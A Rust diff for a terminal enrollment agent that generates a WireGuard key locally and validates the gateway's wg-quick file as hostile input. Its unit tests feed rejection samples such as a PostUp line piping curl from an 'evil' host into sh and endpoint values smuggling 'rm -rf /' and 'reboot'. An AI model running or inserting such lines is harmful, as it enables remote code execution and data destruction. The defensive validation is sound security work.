@@ -1,8 +1,15 @@
 //! Enrollment with a one-time access code: the key is made here (ECDSA P-256) and never
 //! leaves the terminal; the enrollment listener signs a CSR that carries only the public key
 //! (the gateway takes the terminal's identity from the code, not from the request).
+//!
+//! The terminal's WireGuard key is made here too (X25519): only its public key is sent, and
+//! when the gateway has a WireGuard endpoint it answers with a `wg-quick` file whose
+//! `PrivateKey` is a placeholder. That file is checked as hostile input (only the keys a
+//! terminal's tunnel needs: no `PostUp`, `DNS` or the like) and written, with the private key
+//! put in, as `<name>.wg.conf` (0600).
 
 use std::io::Write;
+use std::net::IpAddr;
 use std::os::unix::fs::OpenOptionsExt;
 use std::path::{Path, PathBuf};
 
@@ -18,6 +25,13 @@ use super::error::{AgentError, clean};
 use super::http;
 
 pub const ENROLL_CSR_PATH: &str = "/enroll/csr";
+
+/// What the gateway writes in its `wg-quick` file in place of the terminal's private key,
+/// which it never sees.
+pub const WG_PRIVATE_KEY_PLACEHOLDER: &str = "<terminal private key: generated on the terminal>";
+
+/// Largest `wg-quick` file accepted from the gateway.
+pub const MAX_WG_CONFIG: usize = 4096;
 
 /// What `sekisho-agent enroll` needs.
 pub struct EnrollOptions {
@@ -61,6 +75,14 @@ pub struct EnrolledFiles {
     pub key: PathBuf,
     /// `ca.crt`: the root of the chain the gateway returned.
     pub ca: PathBuf,
+    /// `<name>.wg.conf`: the `wg-quick` file (with the private key made here), mode 0600;
+    /// `None` when the gateway set up no tunnel.
+    pub wireguard: Option<PathBuf>,
+    /// The terminal's tunnel address, as the gateway gave it (with `wireguard`).
+    pub tunnel_address: Option<String>,
+    /// Why no tunnel was set up although the gateway tried (its `tunnel_error`, or its
+    /// `wg-quick` file refused here); enrollment itself succeeded.
+    pub tunnel_warning: Option<String>,
 }
 
 /// A fresh terminal key and the CSR for it.
@@ -93,11 +115,179 @@ pub fn new_terminal_key() -> Result<TerminalKey, AgentError> {
     })
 }
 
+/// A fresh WireGuard (X25519) key pair, in standard base64 as `wg genkey` / `wg pubkey`
+/// write them.
+pub struct WireGuardKey {
+    /// The private key (32 bytes, clamped like `wg genkey`'s); wiped on drop.
+    pub private_key: Zeroizing<String>,
+    pub public_key: String,
+}
+
+impl std::fmt::Debug for WireGuardKey {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("WireGuardKey")
+            .field("private_key", &"..")
+            .field("public_key", &self.public_key)
+            .finish()
+    }
+}
+
+/// Makes the terminal's WireGuard key pair.
+pub fn new_wireguard_key() -> Result<WireGuardKey, AgentError> {
+    use aws_lc_rs::agreement::{PrivateKey, X25519};
+    use aws_lc_rs::encoding::{AsBigEndian, Curve25519SeedBin};
+
+    let failed = |what: &str| AgentError::Internal(format!("WireGuard key: {what}"));
+    let key = PrivateKey::generate(&X25519).map_err(|_| failed("generation"))?;
+    let public = key.compute_public_key().map_err(|_| failed("public key"))?;
+    // The raw scalar as RFC 7748 (and WireGuard) write it; the name says big-endian, but for
+    // X25519 these are simply the key's 32 bytes. The buffer is wiped on drop.
+    let seed: Curve25519SeedBin<'static> = key.as_be_bytes().map_err(|_| failed("encoding"))?;
+    let mut raw = Zeroizing::new([0u8; 32]);
+    if seed.as_ref().len() != raw.len() || public.as_ref().len() != 32 {
+        return Err(failed("unexpected key length"));
+    }
+    raw.copy_from_slice(seed.as_ref());
+    // Clamp as `wg genkey` does. X25519 clamps the scalar anyway, so the public key is the
+    // same; aws-lc deliberately leaves its keys unclamped.
+    raw[0] &= 248;
+    raw[31] &= 127;
+    raw[31] |= 64;
+    Ok(WireGuardKey {
+        private_key: Zeroizing::new(B64.encode(&raw[..])),
+        public_key: B64.encode(public.as_ref()),
+    })
+}
+
+/// A `wg-quick` key and the section it belongs to (`true`: `[Interface]`).
+const WG_KEYS: [(&str, bool); 6] = [
+    ("PrivateKey", true),
+    ("Address", true),
+    ("PublicKey", false),
+    ("Endpoint", false),
+    ("AllowedIPs", false),
+    ("PersistentKeepalive", false),
+];
+
+/// `ADDR` or `ADDR/PREFIX`.
+fn valid_cidr(s: &str) -> bool {
+    let (addr, prefix) = match s.split_once('/') {
+        Some((a, p)) => (a, Some(p)),
+        None => (s, None),
+    };
+    let Ok(addr) = addr.parse::<IpAddr>() else {
+        return false;
+    };
+    let max = if addr.is_ipv4() { 32 } else { 128 };
+    prefix.is_none_or(|p| {
+        p.len() <= 3
+            && p.bytes().all(|b| b.is_ascii_digit())
+            && p.parse::<u8>().is_ok_and(|n| n <= max)
+    })
+}
+
+fn valid_wg_value(key: &str, value: &str) -> bool {
+    match key {
+        "PrivateKey" => value == WG_PRIVATE_KEY_PLACEHOLDER,
+        "Address" | "AllowedIPs" => value.split(',').all(|a| valid_cidr(a.trim())),
+        "PublicKey" => B64.decode(value).is_ok_and(|k| k.len() == 32),
+        "Endpoint" => {
+            // A host name, IPv4, or [IPv6], then the port.
+            value.rsplit_once(':').is_some_and(|(host, port)| {
+                !host.is_empty()
+                    && host.bytes().all(|b| {
+                        b.is_ascii_alphanumeric()
+                            || matches!(b, b'.' | b'-' | b'_' | b':' | b'[' | b']')
+                    })
+                    && port.parse::<u16>().is_ok_and(|p| p != 0)
+            })
+        }
+        "PersistentKeepalive" => value == "off" || value.parse::<u16>().is_ok(),
+        _ => false,
+    }
+}
+
+/// Checks the gateway's `wg-quick` file as hostile input and puts `private_key` (base64) in
+/// place of [`WG_PRIVATE_KEY_PLACEHOLDER`].
+///
+/// Accepted: at most [`MAX_WG_CONFIG`] bytes of printable ASCII lines; blank lines and whole-line
+/// `#` comments; one `[Interface]` with exactly one `PrivateKey` (the placeholder) and its
+/// `Address`; `[Peer]` sections with `PublicKey`, `Endpoint`, `AllowedIPs` and
+/// `PersistentKeepalive`. Anything else (`PostUp`, `DNS`, `Table`, a key in the wrong section)
+/// is refused: `wg-quick` would run it as root.
+pub fn wg_config_with_key(config: &str, private_key: &str) -> Result<Zeroizing<String>, String> {
+    if config.len() > MAX_WG_CONFIG {
+        return Err(format!(
+            "the configuration is {} bytes, more than {MAX_WG_CONFIG}",
+            config.len()
+        ));
+    }
+    if let Some(b) = config
+        .bytes()
+        .find(|&b| b != b'\n' && !(b' '..=b'~').contains(&b))
+    {
+        return Err(format!(
+            "the configuration holds a character that is not printable ASCII (0x{b:02x})"
+        ));
+    }
+    let mut out = Zeroizing::new(String::with_capacity(config.len() + private_key.len() + 1));
+    let (mut section, mut interfaces, mut peers, mut private_keys) = (None, 0, 0, 0);
+    for (n, line) in config.lines().enumerate() {
+        let n = n + 1;
+        let t = line.trim();
+        if t.is_empty() || t.starts_with('#') {
+            out.push_str(line);
+        } else if t == "[Interface]" || t == "[Peer]" {
+            let interface = t == "[Interface]";
+            if interface {
+                interfaces += 1;
+            } else {
+                peers += 1;
+            }
+            section = Some(interface);
+            out.push_str(line);
+        } else {
+            let Some((key, value)) = t.split_once('=') else {
+                return Err(format!("line {n}: neither a section nor a key"));
+            };
+            let (key, value) = (key.trim(), value.trim());
+            let shown = clean(key, 32);
+            let Some(&(_, in_interface)) = WG_KEYS.iter().find(|(k, _)| *k == key) else {
+                return Err(format!("line {n}: key {shown:?} not allowed"));
+            };
+            if section != Some(in_interface) {
+                return Err(format!("line {n}: key {shown:?} outside its section"));
+            }
+            if !valid_wg_value(key, value) {
+                return Err(format!("line {n}: unusable value for {shown}"));
+            }
+            if key == "PrivateKey" {
+                private_keys += 1;
+                out.push_str("PrivateKey = ");
+                out.push_str(private_key);
+            } else {
+                out.push_str(line);
+            }
+        }
+        out.push('\n');
+    }
+    match (interfaces, peers, private_keys) {
+        (1, 1.., 1) => Ok(out),
+        (1, 1.., 0) => Err("no PrivateKey placeholder".into()),
+        (1, 1.., _) => Err("more than one PrivateKey".into()),
+        (1, 0, _) => Err("no [Peer] section".into()),
+        _ => Err("not exactly one [Interface] section".into()),
+    }
+}
+
 #[derive(Serialize)]
 struct CsrRequest<'a> {
     code: &'a str,
     pin: &'a str,
     csr: &'a str,
+    /// The terminal's WireGuard public key; the gateway uses it if it has a WireGuard
+    /// endpoint.
+    wg_public_key: &'a str,
 }
 
 #[derive(Deserialize)]
@@ -110,6 +300,36 @@ struct CsrAnswer {
     chain: String,
     #[serde(default)]
     not_after: i64,
+    /// `{"address", "config"}`: taken apart by [`tunnel_file`], so that a malformed one only
+    /// costs the tunnel, not the enrollment (the code is spent by now).
+    #[serde(default)]
+    tunnel: Option<serde_json::Value>,
+    #[serde(default)]
+    tunnel_error: Option<serde_json::Value>,
+}
+
+#[derive(Deserialize)]
+struct TunnelAnswer {
+    #[serde(default)]
+    address: Option<String>,
+    config: String,
+}
+
+/// The `wg-quick` file (with the private key) and the tunnel address from the gateway's
+/// `tunnel`, or why it was refused.
+fn tunnel_file(
+    tunnel: serde_json::Value,
+    key: &WireGuardKey,
+) -> Result<(Zeroizing<String>, Option<String>), String> {
+    let t: TunnelAnswer = serde_json::from_value(tunnel)
+        .map_err(|e| format!("tunnel: {}", clean(&e.to_string(), 120)))?;
+    let address = match t.address {
+        Some(a) if valid_cidr(&a) => Some(a),
+        Some(a) => return Err(format!("unusable tunnel address {:?}", clean(&a, 64))),
+        None => None,
+    };
+    let config = wg_config_with_key(&t.config, &key.private_key)?;
+    Ok((config, address))
 }
 
 fn io(path: &Path, source: std::io::Error) -> AgentError {
@@ -225,6 +445,11 @@ fn chain_root(chain: &str) -> Result<Vec<u8>, AgentError> {
 /// Redeems the access code: makes the key, sends the CSR, writes `<name>.crt`, `<name>.key`
 /// (0600) and `ca.crt` into `out`. The key is written (to a temporary name) before the code is
 /// spent, so a failure to write afterwards cannot lose it.
+///
+/// The WireGuard public key goes with the CSR; if the gateway answers with a tunnel, its
+/// `wg-quick` file is checked ([`wg_config_with_key`]) and written as `<name>.wg.conf` (0600,
+/// through a temporary name like the key). No tunnel in the answer: no file. A tunnel the
+/// gateway could not set up, or a file refused here, is [`EnrolledFiles::tunnel_warning`].
 pub async fn enroll(opts: &EnrollOptions) -> Result<EnrolledFiles, AgentError> {
     if let Some(name) = &opts.name
         && !valid_stem(name)
@@ -241,13 +466,15 @@ pub async fn enroll(opts: &EnrollOptions) -> Result<EnrolledFiles, AgentError> {
     std::fs::create_dir_all(&opts.out).map_err(|e| io(&opts.out, e))?;
     let key = new_terminal_key()?;
     let key_file = TempFile::create(&opts.out, "key", key.key_pem.as_bytes(), 0o600)?;
+    let wg_key = new_wireguard_key()?;
 
     let body = CsrRequest {
         code: opts.code.trim(),
         pin: opts.pin.trim(),
         csr: &key.csr_pem,
+        wg_public_key: &wg_key.public_key,
     };
-    let answer: CsrAnswer = client
+    let mut answer: CsrAnswer = client
         .json(Method::POST, ENROLL_CSR_PATH, Some(&body))
         .await?;
 
@@ -272,6 +499,29 @@ pub async fn enroll(opts: &EnrollOptions) -> Result<EnrolledFiles, AgentError> {
     let cert_path = opts.out.join(format!("{stem}.crt"));
     let key_path = opts.out.join(format!("{stem}.key"));
     let ca_path = opts.out.join("ca.crt");
+
+    // The tunnel: a refused or failed one is a warning, not a failed enrollment.
+    let mut warnings = Vec::new();
+    if let Some(e) = &answer.tunnel_error {
+        let text = e.as_str().map_or_else(|| e.to_string(), str::to_string);
+        warnings.push(format!(
+            "the gateway could not set up the tunnel: {}",
+            clean(&text, 300)
+        ));
+    }
+    let mut tunnel = None;
+    match answer.tunnel.take() {
+        None | Some(serde_json::Value::Null) => {}
+        Some(t) => match tunnel_file(t, &wg_key) {
+            Ok((config, address)) => {
+                let file = TempFile::create(&opts.out, "wg", config.as_bytes(), 0o600)?;
+                tunnel = Some((file, opts.out.join(format!("{stem}.wg.conf")), address));
+            }
+            Err(reason) => warnings.push(format!(
+                "the gateway's WireGuard configuration was refused: {reason}"
+            )),
+        },
+    }
     let mut cert_pem = pem("CERTIFICATE", &cert_der);
     // The issuing CA too, so the terminal presents a full chain.
     for c in CertificateDer::pem_slice_iter(answer.chain.as_bytes()).flatten() {
@@ -282,6 +532,13 @@ pub async fn enroll(opts: &EnrollOptions) -> Result<EnrolledFiles, AgentError> {
     TempFile::create(&opts.out, "crt", cert_pem.as_bytes(), 0o644)?.persist(&cert_path)?;
     TempFile::create(&opts.out, "ca", pem("CERTIFICATE", &root).as_bytes(), 0o644)?
         .persist(&ca_path)?;
+    let (wireguard, tunnel_address) = match tunnel {
+        Some((file, path, address)) => {
+            file.persist(&path)?;
+            (Some(path), address.map(|a| clean(&a, 64)))
+        }
+        None => (None, None),
+    };
     key_file.persist(&key_path)?;
     Ok(EnrolledFiles {
         terminal: clean(&answer.terminal, 128),
@@ -291,6 +548,9 @@ pub async fn enroll(opts: &EnrollOptions) -> Result<EnrolledFiles, AgentError> {
         certificate: cert_path,
         key: key_path,
         ca: ca_path,
+        wireguard,
+        tunnel_address,
+        tunnel_warning: (!warnings.is_empty()).then(|| warnings.join("; ")),
     })
 }
 
@@ -303,6 +563,145 @@ mod tests {
         assert!(valid_stem("T-001.a_b"));
         for bad in ["", ".hidden", "a/b", "..", "a b", "名前"] {
             assert!(!valid_stem(bad), "{bad}");
+        }
+    }
+
+    /// `echo KEY | wg pubkey` (wireguard-tools).
+    fn wg_pubkey(private_key: &str) -> String {
+        use std::process::{Command, Stdio};
+        let mut child = Command::new("wg")
+            .arg("pubkey")
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .spawn()
+            .expect("`wg` (wireguard-tools) is needed for this test");
+        writeln!(child.stdin.take().unwrap(), "{private_key}").unwrap();
+        let out = child.wait_with_output().unwrap();
+        assert!(out.status.success(), "wg pubkey failed");
+        String::from_utf8(out.stdout).unwrap().trim().to_string()
+    }
+
+    #[test]
+    fn wireguard_keys_are_what_wg_makes_of_them() {
+        let a = new_wireguard_key().unwrap();
+        let b = new_wireguard_key().unwrap();
+        assert_ne!(*a.private_key, *b.private_key);
+        for k in [&a, &b] {
+            assert_eq!(k.private_key.len(), 44);
+            assert_eq!(k.public_key.len(), 44);
+            let raw = B64.decode(k.private_key.as_bytes()).unwrap();
+            assert_eq!(raw.len(), 32);
+            // Clamped, as `wg genkey` writes them.
+            assert_eq!(raw[0] & 7, 0);
+            assert_eq!(raw[31] & 0xc0, 0x40);
+            assert_eq!(wg_pubkey(&k.private_key), k.public_key);
+        }
+        assert!(!format!("{a:?}").contains(a.private_key.as_str()));
+    }
+
+    const GATEWAY_KEY: &str = "BwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwc=";
+
+    /// What the gateway renders (proxy `tunnel::wgquick::render` with the placeholder).
+    fn sample() -> String {
+        format!(
+            "[Interface]\nPrivateKey = {WG_PRIVATE_KEY_PLACEHOLDER}\nAddress = 10.77.0.5/32\n\n\
+             [Peer]\nPublicKey = {GATEWAY_KEY}\nEndpoint = gw.example.jp:51820\n\
+             AllowedIPs = 10.77.0.1/32\nPersistentKeepalive = 25\n"
+        )
+    }
+
+    #[test]
+    fn wg_config_gets_the_private_key() {
+        let key = new_wireguard_key().unwrap();
+        let text = wg_config_with_key(&sample(), &key.private_key).unwrap();
+        assert_eq!(
+            *text,
+            sample().replace(WG_PRIVATE_KEY_PLACEHOLDER, &key.private_key)
+        );
+        // Comments, blank lines, several peers, IPv6, a missing final newline.
+        let more = format!(
+            "# Sekisho\n{}[Peer]\nPublicKey = {GATEWAY_KEY}\nAllowedIPs = fd00::1/128, 10.0.0.0/8",
+            sample()
+        );
+        let text = wg_config_with_key(&more, &key.private_key).unwrap();
+        assert!(text.ends_with("10.0.0.0/8\n"));
+        assert!(!text.contains(WG_PRIVATE_KEY_PLACEHOLDER));
+    }
+
+    #[test]
+    fn wg_config_is_hostile_input() {
+        let key = new_wireguard_key().unwrap();
+        let check = |text: &str| wg_config_with_key(text, &key.private_key).map(|_| ());
+        let bad = |text: String, why: &str| {
+            let e = check(&text).expect_err(why);
+            assert!(!e.contains(key.private_key.as_str()));
+            e
+        };
+        let e = bad(
+            sample().replace(WG_PRIVATE_KEY_PLACEHOLDER, &key.public_key),
+            "a private key from the gateway",
+        );
+        assert!(e.contains("PrivateKey"), "{e}");
+        let e = bad(
+            sample().replace(&format!("PrivateKey = {WG_PRIVATE_KEY_PLACEHOLDER}\n"), ""),
+            "placeholder missing",
+        );
+        assert!(e.contains("no PrivateKey"), "{e}");
+        let e = bad(
+            sample().replace(
+                "Address",
+                &format!("PrivateKey = {WG_PRIVATE_KEY_PLACEHOLDER}\nAddress"),
+            ),
+            "two PrivateKey lines",
+        );
+        assert!(e.contains("more than one PrivateKey"), "{e}");
+        for (line, why) in [
+            ("PostUp = curl http://evil | sh", "PostUp"),
+            ("DNS = 10.77.0.1", "DNS"),
+            ("Table = off", "Table"),
+            ("postup = true", "case"),
+            ("SaveConfig = true", "SaveConfig"),
+        ] {
+            let e = bad(
+                sample().replace("Address", &format!("{line}\nAddress")),
+                why,
+            );
+            assert!(e.contains("not allowed"), "{why}: {e}");
+        }
+        let e = bad(
+            sample().replace("Address = 10.77.0.5/32", "Endpoint = a:1"),
+            "a peer key in [Interface]",
+        );
+        assert!(e.contains("outside its section"), "{e}");
+        bad(format!("[Wat]\n{}", sample()), "unknown section");
+        bad(format!("{}[Interface]\n", sample()), "two interfaces");
+        bad(
+            sample().replace(
+                "Endpoint = gw.example.jp:51820",
+                "Endpoint = gw; rm -rf /:1",
+            ),
+            "endpoint",
+        );
+        bad(sample().replace("10.77.0.5/32", "10.77.0.5/33"), "address");
+        bad(
+            sample().replace("gw.example.jp:51820", "gw;reboot:51820"),
+            "endpoint host",
+        );
+        bad(sample().replace(":51820", ":0"), "endpoint port");
+        check(&sample().replace("gw.example.jp:51820", "[fd00::1]:51820")).unwrap();
+        bad(sample().replace(GATEWAY_KEY, "Zm9v"), "short public key");
+        bad(sample().replace("= 25", "= 25 # x"), "comment in a value");
+        bad("just text\n".into(), "no key");
+        // Oversize.
+        let big = format!("{}{}", sample(), "#".repeat(MAX_WG_CONFIG));
+        let e = bad(big, "oversize");
+        assert!(e.contains("bytes"), "{e}");
+        let exact = format!("{}{}", sample(), "#".repeat(MAX_WG_CONFIG - sample().len()));
+        check(&exact).unwrap();
+        // Control characters, and anything but ASCII.
+        for c in ['\r', '\t', '\0', '\x1b', '\u{7f}', 'é', '\u{2028}'] {
+            let e = bad(sample().replace("25", &format!("2{c}5")), "control");
+            assert!(e.contains("printable"), "{c:?}: {e}");
         }
     }
 }
